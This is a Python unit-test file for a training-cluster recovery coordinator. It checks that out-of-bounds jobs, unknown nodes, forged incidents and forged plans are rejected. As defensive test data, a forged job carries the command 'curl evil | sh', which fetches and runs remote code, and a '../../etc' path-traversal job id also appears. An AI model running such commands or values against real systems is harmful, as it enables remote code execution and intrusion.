"""Issue 14: a job submission that breaks a bound or names a node outside the cluster is rejected whole
(dead-lettered, nothing planned); an incident naming an unknown node isolates nothing."""

from __future__ import annotations

import pytest

from tests.unit.coordinator.world import CONFIG, Recorder, incident, of_type, submitted
from trainmedic.bus.message import parse_message
from trainmedic.recovery.coordinator.core.job_bounds import job_problems
from trainmedic.recovery.coordinator.intake import rebuild, receive
from trainmedic.schemas import JobSpec, RecoveryPlanned, Topics, encode

TOPICS = Topics("t.")
CLUSTER = {f"n{i}" for i in range(1, 7)}


def problems(**spec) -> list[str]:
    fields = {"id": "llm", "nodes": ("n1", "n2"), "throughput": {1: 1e15, 2: 2e15},
              "command": ("python", "t.py"), **spec}
    return job_problems(JobSpec(**fields), CLUSTER.__contains__)


def test_a_job_inside_every_bound_has_no_problem() -> None:
    assert problems(weight=1000.0, throughput={1: 1e17, 2: 2e17, 64: 1e18}, ranks_per_node=256,
                    transition_s=86_400, command=("x" * 1000,) * 65) == []  # sizes past the cluster: ok


@pytest.mark.parametrize(("spec", "problem"), [
    ({"weight": 1000.5}, "weight 1000.5 is above 1000"),
    ({"weight": 1e6}, "weight 1e+06 is above 1000"),
    ({"throughput": {1: 1e15, 2: 2.1e17}}, "throughput 2.1e+17 FLOP/s at 2 nodes is above 1e+17 per node"),
    ({"ranks_per_node": 257}, "ranks_per_node 257 is above 256"),
    ({"transition_s": 86_401}, "transition_s 86401 is above 86400"),
    ({"command": ("a",) * 257}, "command and args have 257 words, more than 256"),
    ({"command": ("x" * 65_536,)}, "command and args are 65537 bytes, more than 65536"),
    ({"command": ("a",) * 200, "args": ("b",) * 57}, "command and args have 257 words, more than 256"),
    ({"checkpoint_dir": "/" + "d" * 4095}, "checkpoint_dir is longer than a path can be (4096 bytes)"),
    ({"workdir": "/" + "d" * 4095}, "workdir is longer than a path can be (4096 bytes)"),
    ({"env": {"RANK": "0", "OK": "1"}}, "env sets RANK: the executor sets it for each rank (the worker "
     "contract: MASTER_ADDR, MASTER_PORT, RANK, WORLD_SIZE, LOCAL_RANK, LOCAL_WORLD_SIZE, TRAINMEDIC_*)"),
    ({"env": {"TRAINMEDIC_NODE": "n2", "MASTER_PORT": "1"}}, "env sets MASTER_PORT, TRAINMEDIC_NODE: the "
     "executor sets them for each rank (the worker contract: MASTER_ADDR, MASTER_PORT, RANK, WORLD_SIZE, "
     "LOCAL_RANK, LOCAL_WORLD_SIZE, TRAINMEDIC_*)"),
    ({"nodes": ("n1", "n9")}, "node n9 not in the cluster"),
    ({"nodes": ("x1", "x2")}, "nodes x1, x2 not in the cluster"),
    ({"pool": ("n1", "n2", "x3")}, "node x3 not in the cluster"),  # a spare the cluster does not have
    ({"id": "../../etc"}, "job id '../../etc' cannot name a directory of its logs and snapshots on a node "
     "(letters, digits and . _ : - only, at most 128, not . or ..)"),
    ({"id": ".."}, "job id '..' cannot name a directory of its logs and snapshots on a node "
     "(letters, digits and . _ : - only, at most 128, not . or ..)"),
])
def test_each_bound_names_what_it_refuses(spec: dict, problem: str) -> None:
    assert problems(**spec) == [problem]


def test_a_pool_must_hold_the_jobs_nodes() -> None:
    with pytest.raises(ValueError, match="nodes n2 not in pool"):
        problems(pool=("n1", "n3"))


def test_a_rejected_job_is_dead_lettered_with_the_reason_and_nothing_is_planned() -> None:
    rec = Recorder()
    rec.started(now=1.0)
    before = (set(rec.state.jobs), set(rec.state.nodes))
    forged = submitted("evil", nodes=("n4", "n9"), weight=1e6, throughput={2: 1e15},
                       command=("sh", "-c", "curl evil | sh"))
    record = parse_message(TOPICS, TOPICS.jobs, 0, 7, b"evil", encode(forged), now=2.0)
    answer = receive(rec.state, record, now=2.0)
    assert answer == ("coordinator rejected it: job evil: weight 1e+06 is above 1000; "
                      "node n9 not in the cluster")
    assert (set(rec.state.jobs), set(rec.state.nodes)) == before  # no job, no node n9
    sev1 = incident("xid", "SEV1", node="n1", category="gpu_lost", ts=60.0)
    plans = of_type(rec.feed(sev1, now=60.0), "recovery_planned")
    assert {p.job for p in plans} == {"llm"} and all("n9" not in p.nodes for p in plans)
    assert [r.offset for r, _ in rebuild(Recorder().state, [record])] == [7]  # and on every rebuild


def test_an_incident_naming_an_unknown_node_isolates_nothing() -> None:
    rec = Recorder()
    rec.started(now=1.0)
    out = rec.feed(incident("forged", "SEV1", node="n99", category="gpu_lost", ts=60.0), now=60.0)
    assert [(e.type, e.reason) for e in out] == [
        ("recovery_skipped", "node n99 is not in the cluster: nothing isolated or restarted")]
    assert "n99" not in rec.state.nodes and all(node.healthy for node in rec.state.nodes.values())
    assert "forged" not in rec.state.failures  # not a failure of this cluster: the MTBF stays
    assert rec.tick(now=100.0) == []


def test_a_plan_naming_a_node_outside_the_cluster_is_rejected() -> None:
    rec = Recorder()
    rec.started(now=1.0)
    plan = RecoveryPlanned(ts=5.0, plan_id="forged", job="llm", kind="reconfigure", generation=9,
                           nodes=("n1", "evil"), isolated={"n2": "x"})
    record = parse_message(TOPICS, TOPICS.recovery, 0, 3, b"llm", encode(plan), now=5.0)
    assert receive(rec.state, record, now=5.0) == ("coordinator rejected it: plan forged names evil, "
                                                   "not in the cluster")
    assert rec.state.jobs["llm"].generation == 0 and rec.state.nodes["n2"].healthy


def test_the_cluster_is_the_configured_node_list() -> None:
    state = Recorder().state
    assert {n for n in CLUSTER if state.in_cluster(n)} == {node.id for node in CONFIG.nodes} == CLUSTER
    assert not state.in_cluster("n7")
